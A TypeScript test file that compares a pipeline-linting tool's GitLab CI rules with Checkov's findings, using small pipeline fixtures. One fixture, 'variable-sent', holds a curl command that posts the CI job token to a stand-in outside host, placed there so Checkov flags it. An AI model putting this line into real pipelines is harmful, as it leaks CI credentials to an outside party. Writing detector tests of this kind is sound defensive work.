import { check, defineConfig, presets } from '../../lib';
import { examples } from '../../lib/rules/examples';
import { Found, folderOf } from './differences';
import { json, whereThereIs } from './tools';

/** What Checkov asks of pipelines of GitLab, which no rule does, and why. */
const ALONE: Readonly<Record<string, string>> = {
  CKV_GITLABCI_1:
    'it finds curl beside variables of the run, whatever is done with them; what others write and a script runs is asked by script-no-outside-code and script-outside-quoted',
  CKV_GITLABCI_2: 'whether one push starts two pipelines is a matter of cost',
};

/** Pipelines that show what it alone asks. */
const THEIRS: Readonly<Record<string, string>> = {
  'variable-sent': `tell:
  script:
    - 'curl -X POST --data "$CI_JOB_TOKEN" https://example.com/hook'
`,
  'two-pipelines': `build:
  script: [make]
  rules:
    - if: $CI_PIPELINE_SOURCE == "push"
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
`,
};

/** The pipelines of all examples, by their rules. */
const EXAMPLES = Object.fromEntries(
  Object.entries(examples).flatMap(([id, { fails, passes }]) =>
    [...fails, ...passes].flatMap(({ gitlab }, at) =>
      typeof gitlab === 'string' ? [[`${id.replace('gitlab/', '')}-${at}`, gitlab]] : [],
    ),
  ),
);
const pipelines = { ...EXAMPLES, ...THEIRS };

/** What our rules find in each. */
const found = Object.fromEntries(
  Object.entries(pipelines).map(([name, content]) => {
    const { findings } = check([{ name: '.gitlab-ci.yml', content }], defineConfig(presets.all));
    return [name, findings.map(({ rule }) => rule.replace('gitlab/', ''))];
  }),
);

whereThereIs('checkov', 'what it finds in pipelines of GitLab is found, or it is said why not', () => {
  const folder = folderOf(
    Object.fromEntries(Object.entries(pipelines).map(([name, text]) => [`${name}/.gitlab-ci.yml`, text])),
  );
  const theirs = new Found();

  beforeAll(() => {
    const told = json('checkov', '-d', folder, '--framework', 'gitlab_ci', '-o', 'json', '--quiet', '--compact');
    for (const { check_id, file_path } of told.results.failed_checks) theirs.add(file_path.split('/').at(-2), check_id);
  }, 200_000);

  test('it finds what is made for it, and nothing in the examples of any rule', () => {
    expect([...theirs.all()].sort()).toEqual(Object.keys(ALONE).sort());
    expect(theirs.names().sort()).toEqual(Object.keys(THEIRS).sort());
  });

  test('every rule about pipelines finds something in the examples', () => {
    const rules = Object.keys(examples).filter((id) => id.startsWith('gitlab/'));
    expect(rules.filter((id) => !Object.values(found).flat().includes(id.replace('gitlab/', '')))).toEqual([]);
  });
});
